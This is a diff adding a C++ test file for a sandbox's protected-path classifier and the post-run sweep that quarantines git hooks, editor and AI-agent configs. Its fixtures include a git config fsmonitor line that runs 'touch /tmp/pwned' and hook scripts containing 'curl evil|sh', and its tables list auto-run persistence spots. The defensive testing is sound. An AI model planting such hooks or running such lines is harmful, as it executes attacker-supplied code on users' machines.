@@ -1,0 +1,278 @@
+// The one classifier (plan/protected_names.hpp) as its three users see it:
+// the pre-run protect walker and the post-run sweep must agree on every path
+// of a table (the same tree, existing before the run for the walker, created
+// during the run for the sweep). Also: git directories by content, git
+// config pointers, and the sweep's fd-relative walk (deep and unreadable
+// directories). Temp dirs only.
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <climits>
+#include <filesystem>
+#include <fstream>
+#include <set>
+
+#include "plan/git_pointers.hpp"
+#include "plan/protect.hpp"
+#include "plan/protected_names.hpp"
+#include "sandbox/sweep.hpp"
+
+namespace exg {
+namespace {
+
+namespace fs = std::filesystem;
+
+struct Dir {
+  Dir() {
+    char t[] = "/tmp/exg_pn_XXXXXX";
+    char buf[PATH_MAX];
+    path = ::realpath(::mkdtemp(t), buf);
+  }
+  ~Dir() {
+    std::error_code ec;
+    for (auto it = fs::recursive_directory_iterator(path, fs::directory_options::skip_permission_denied, ec);
+         it != fs::recursive_directory_iterator(); it.increment(ec))
+      if (it->is_directory(ec)) ::chmod(it->path().c_str(), 0755);
+    fs::remove_all(path, ec);
+  }
+  std::string path;
+};
+
+void put(const std::string& p, const std::string& content = "x\n") {
+  fs::create_directories(fs::path(p).parent_path());
+  std::ofstream(p, std::ios::trunc) << content;
+}
+
+// A table row: a file to create, and whether it is code that runs later.
+struct Row {
+  const char* path;
+  bool protected_;
+};
+
+const std::vector<Row> kTable = {
+    {".bashrc", true},
+    {"a/b/.envrc", true},
+    {"lefthook.yml", true},
+    {"x/.lefthook.yml", true},
+    {"m/.hg/hgrc", true},
+    {"m/.hg/store/data", false},
+    {"p/.gemini/settings.json", true},
+    {"p/.gemini/notes.md", false},
+    {"p/.claude/settings.local.json", true},
+    {"p/.claude/notes.md", false},
+    {"q/.cursor/mcp.json", true},
+    {"r/.codex/config.toml", true},
+    {"s/.continue/config.yaml", true},
+    {"t/.amazonq/mcp.json", true},
+    {".aider.conf.yml", true},
+    {"e/.vscode/tasks.json", true},
+    {"e/.idea/workspace.xml", true},
+    {"n/.nvim.lua", true},
+    {"z/.zed/settings.json", true},
+    {".config/fish/config.fish", true},
+    {".config/fish/functions/f.fish", false},
+    {".opencode/plugin/p.ts", true},
+    {"h/.pre-commit-config.yaml", true},
+    {"h/.husky/pre-commit", true},
+    {"src/main.c", false},
+    {"src/config", false},       // not in a git directory
+    {"src/hooks/useThing.ts", false},
+    {"docs/HEAD", false},
+    // A repository by name, and its git directory's files.
+    {"repo/.git/HEAD", false},
+    {"repo/.git/objects/ab/cd", false},
+    {"repo/.git/refs/heads/main", false},
+    {"repo/.git/hooks/pre-commit", true},
+    {"repo/.git/config", true},
+    {"repo/.git/config.worktree", true},
+    {"repo/.git/info/attributes", true},
+    {"repo/.git/info/exclude", false},
+    {"repo/.git/worktrees/w1/HEAD", false},
+    {"repo/.git/worktrees/w1/commondir", true},
+    {"repo/.git/worktrees/w1/gitdir", true},
+    {"repo/.git/modules/lib/HEAD", false},
+    {"repo/.git/modules/lib/hooks/post-checkout", true},
+    // A bare repository by content (HEAD, objects/, refs/), under any name.
+    {"vendor/bare/HEAD", false},
+    {"vendor/bare/objects/info/packs", false},
+    {"vendor/bare/refs/heads/main", false},
+    {"vendor/bare/config", true},
+    {"vendor/bare/hooks/post-receive", true},
+    {"vendor/bare/sub/file", false},
+    {"sub/.git", true},  // a gitdir: file
+};
+
+std::string content_for(const std::string& rel) {
+  if (rel.ends_with("/HEAD") && rel != "docs/HEAD") return "ref: refs/heads/main\n";
+  if (rel.ends_with("config") || rel.ends_with("config.worktree")) return "[core]\n\tfsmonitor = touch /tmp/pwned\n";
+  return "x\n";
+}
+
+bool covered(const std::string& rel, const std::set<std::string>& rels) {
+  for (std::string p = rel;; p = p.substr(0, p.rfind('/'))) {
+    if (rels.count(p)) return true;
+    if (p.find('/') == std::string::npos) return false;
+  }
+}
+
+TEST(ProtectedNames, WalkerAndSweepAgreeOnTheTable) {
+  // The walker: the tree exists before the run.
+  Dir before;
+  for (const auto& r : kTable) put(before.path + "/" + r.path, content_for(r.path));
+  std::set<std::string> walker;
+  for (const auto& p : plan::find_protected(before.path, {}))
+    if (!p.pin) walker.insert(p.path.substr(before.path.size() + 1));
+  // The sweep: the same tree made during the run.
+  Dir during;
+  std::string ws = during.path + "/ws";
+  fs::create_directories(ws);
+  auto snap = sandbox::snapshot_tree(ws);
+  ASSERT_TRUE(snap);
+  for (const auto& r : kTable) put(ws + "/" + r.path, content_for(r.path));
+  sandbox::SweepOptions so;
+  so.dry_run = true;
+  auto found = sandbox::sweep(ws, *snap, so);
+  ASSERT_TRUE(found) << found.error().str();
+  std::set<std::string> swept;
+  for (const auto& p : *found) {
+    EXPECT_FALSE(p.unchecked) << p.relpath;
+    swept.insert(p.relpath);
+  }
+  for (const auto& r : kTable) {
+    EXPECT_EQ(covered(r.path, walker), r.protected_) << "walker: " << r.path;
+    EXPECT_EQ(covered(r.path, swept), r.protected_) << "sweep: " << r.path;
+  }
+}
+
+TEST(ProtectedNames, EveryTableEntrySaysWhoRunsIt) {
+  std::set<std::string> seen;
+  for (const auto& e : plan::kProtectedNameTable) {
+    EXPECT_TRUE(seen.insert(e.name).second) << "listed twice: " << e.name;
+    EXPECT_GT(std::string(e.who).size(), 3u) << e.name;
+  }
+}
+
+TEST(ProtectedNames, GitDirectoryByContent) {
+  plan::GitMarkers m;
+  for (auto n : {"HEAD", "objects"}) m.see(n);
+  EXPECT_FALSE(m.git_dir());
+  m.see("refs");
+  EXPECT_TRUE(m.git_dir());
+  plan::GitMarkers w;
+  for (auto n : {"HEAD", "commondir"}) w.see(n);
+  EXPECT_TRUE(w.git_dir());  // a linked worktree's git directory
+  plan::ProtectedPaths pp;
+  EXPECT_EQ(pp.classify_path("src/config", false, true).kind, plan::ProtectMatch::None);
+  EXPECT_EQ(pp.classify_path("src/config", false, true, {"src"}).kind, plan::ProtectMatch::Protected);
+  EXPECT_EQ(pp.classify_path("hooks/pre-commit", false, true, {""}).kind, plan::ProtectMatch::Protected);
+  EXPECT_EQ(pp.classify_path("hooks/pre-commit.sample", false, true, {""}).kind, plan::ProtectMatch::None);
+  // Anchored paths (what a git config points at) count where they are only.
+  plan::ProtectedPaths anchored({}, false, {"tools/hooks"});
+  EXPECT_EQ(anchored.classify_path("tools/hooks/pre-commit", false, true).kind, plan::ProtectMatch::Protected);
+  EXPECT_EQ(anchored.classify_path("x/tools/hooks/pre-commit", false, true).kind, plan::ProtectMatch::None);
+}
+
+TEST(GitPointers, ConfigSyntax) {
+  auto p = plan::git_config_pointers(
+      "[core]\n\tbare = false\n\thooksPath = \"my hooks\" ; comment\n[Core] HooksPath = second\n"
+      "[include]\n\tpath = ../shared.cfg\n[includeIf \"gitdir:~/w/\"]\n\tpath = ~/w.cfg\n"
+      "[alias]\n\tpath = not-an-include\n[core]\n\thooksPath = a\\\nb\n");
+  EXPECT_EQ(p.hooks_paths, (std::vector<std::string>{"my hooks", "second", "ab"}));
+  EXPECT_EQ(p.include_paths, (std::vector<std::string>{"../shared.cfg", "~/w.cfg"}));
+  EXPECT_EQ(plan::resolve_lexically("/w/repo", "../x/./y", "/h"), "/w/x/y");
+  EXPECT_EQ(plan::resolve_lexically("/w", "~/z", "/h"), "/h/z");
+}
+
+TEST(GitPointers, HooksPathIncludesAndSymlinkedHooks) {
+  Dir d;
+  std::string r = d.path;
+  put(r + "/.git/HEAD", "ref: refs/heads/main\n");
+  put(r + "/.git/config", "[core]\n\thooksPath = .hooks-here\n[include]\n\tpath = ../tools/extra.cfg\n");
+  put(r + "/tools/extra.cfg", "[core]\n\thooksPath = /abs/hooks\n");
+  put(r + "/tools/pre-commit", "#!/bin/sh\n");
+  fs::create_directories(r + "/.git/hooks");
+  fs::create_symlink("../../tools/pre-commit", r + "/.git/hooks/pre-commit");
+  auto v = plan::git_dir_pointers(r + "/.git", "/h");
+  std::set<std::string> s(v.begin(), v.end());
+  EXPECT_TRUE(s.count(r + "/.hooks-here"));
+  EXPECT_TRUE(s.count(r + "/tools/extra.cfg"));
+  EXPECT_TRUE(s.count("/abs/hooks"));
+  EXPECT_TRUE(s.count(r + "/tools/pre-commit"));
+  // The walker binds the hook's target read-only (it lies in the tree).
+  auto found = plan::find_protected_all(r, {});
+  bool target = false;
+  for (const auto& p : found.paths) target |= p.path == r + "/tools/pre-commit";
+  EXPECT_TRUE(target);
+}
+
+// A dangling symlinked hook whose target is created during the run, and a
+// hooksPath directory made during the run: quarantined.
+TEST(Sweep, PointersCreatedDuringTheRunAreQuarantined) {
+  Dir d;
+  std::string ws = d.path + "/ws";
+  put(ws + "/.git/HEAD", "ref: refs/heads/main\n");
+  put(ws + "/.git/config", "[core]\n\thooksPath = ci/hooks\n");
+  fs::create_directories(ws + "/.git/hooks");
+  fs::create_symlink("../../tools/pre-push", ws + "/.git/hooks/pre-push");
+  auto ptr = plan::find_protected_all(ws, {}).pointers;
+  auto snap = sandbox::snapshot_tree(ws, {}, ptr);
+  ASSERT_TRUE(snap);
+  put(ws + "/tools/pre-push", "#!/bin/sh\ncurl evil|sh\n");
+  put(ws + "/ci/hooks/pre-commit", "#!/bin/sh\ncurl evil|sh\n");
+  put(ws + "/ci/other.txt");
+  sandbox::SweepOptions so;
+  so.quarantine_dir = d.path + "/q";
+  auto r = sandbox::sweep(ws, *snap, so);
+  ASSERT_TRUE(r) << r.error().str();
+  std::set<std::string> rels;
+  for (const auto& p : *r) rels.insert(p.relpath);
+  EXPECT_EQ(rels, (std::set<std::string>{"ci/hooks", "tools/pre-push"}));
+  EXPECT_TRUE(fs::exists(ws + "/ci/other.txt"));
+}
+
+TEST(Sweep, DeeperThanPathMaxAndUnreadableDirectories) {
+  Dir d;
+  std::string ws = d.path + "/ws";
+  fs::create_directories(ws);
+  auto snap = sandbox::snapshot_tree(ws);
+  ASSERT_TRUE(snap);
+  // 30 levels of 200-character names: 6,000 bytes, beyond PATH_MAX.
+  int fd = ::open(ws.c_str(), O_RDONLY | O_DIRECTORY);
+  std::string name(200, 'x');
+  for (int i = 0; i < 30; ++i) {
+    ASSERT_EQ(::mkdirat(fd, name.c_str(), 0755), 0);
+    int n = ::openat(fd, name.c_str(), O_RDONLY | O_DIRECTORY);
+    ::close(fd);
+    fd = n;
+  }
+  ASSERT_EQ(::mkdirat(fd, ".git", 0755), 0);
+  int g = ::openat(fd, ".git", O_RDONLY | O_DIRECTORY);
+  ASSERT_EQ(::mkdirat(g, "hooks", 0755), 0);
+  int h = ::openat(g, "hooks/pre-commit", O_WRONLY | O_CREAT, 0755);
+  ::close(h);
+  ::close(g);
+  ::close(fd);
+  // A hook under a directory its owner made unreadable.
+  put(ws + "/hide/r/.git/hooks/pre-commit", "#!/bin/sh\n");
+  ASSERT_EQ(::chmod((ws + "/hide").c_str(), 0), 0);
+  sandbox::SweepOptions so;
+  so.quarantine_dir = d.path + "/q";
+  auto r = sandbox::sweep(ws, *snap, so);
+  ASSERT_TRUE(r) << r.error().str();
+  ASSERT_EQ(r->size(), 2u);
+  for (const auto& p : *r) {
+    EXPECT_FALSE(p.unchecked) << p.why;
+    EXPECT_FALSE(p.quarantined_to.empty()) << p.why;
+  }
+  struct stat st;
+  ASSERT_EQ(::stat((ws + "/hide").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 07777, 0u);  // put back
+  ::chmod((ws + "/hide").c_str(), 0755);
+  EXPECT_FALSE(fs::exists(ws + "/hide/r/.git/hooks/pre-commit"));
+}
+
+}  // namespace
+}  // namespace exg
